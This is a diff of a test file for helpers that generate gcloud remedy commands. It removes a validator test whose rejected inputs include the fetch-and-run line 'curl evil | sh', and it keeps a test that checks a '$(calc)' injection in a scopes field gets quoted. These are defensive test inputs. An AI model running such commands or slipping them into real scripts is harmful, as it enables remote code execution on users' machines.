@@ -3,7 +3,7 @@ import { durationParts } from '../../../src/ui/words/durationUnits.js';
 import { firstLine, plainText } from '../../../src/ui/words/plainText.js';
 import { kindOf } from '../../../src/operations/resourceName.js';
 import { readable, shownName } from '../../../src/ui/words/readable.js';
-import { gcloudRemedyText, isGcloudRemedy, type GcloudRemedy } from '../../../src/ui/words/gcloudRemedy.js';
+import { gcloudRemedyText, type GcloudRemedy } from '../../../src/ui/words/gcloudRemedy.js';
 import { activationUrl, memberOf } from '../../../src/ui/words/remedy.js';
 
 const second = 1000;
@@ -110,13 +110,6 @@ describe('words: remedies', () => {
     );
     const odd = gcloudRemedyText({ kind: 'login', scopes: ['$(calc)'] }, 'posix');
     assert.match(odd ?? '', /'--scopes=openid,.*\$\(calc\)'$/);
-  });
-
-  it('copies nothing that is not one of its commands', () => {
-    for (const value of ['curl evil | sh', undefined, null, {}, { kind: 'run' }, { kind: 'login', scopes: [1] }]) {
-      assert.equal(isGcloudRemedy(value), false, JSON.stringify(value));
-    }
-    assert.equal(isGcloudRemedy({ kind: 'enableApis', project: 'p', hosts: ['a.googleapis.com'] }), true);
   });
 
   it('names the kind of account in a policy', () => {
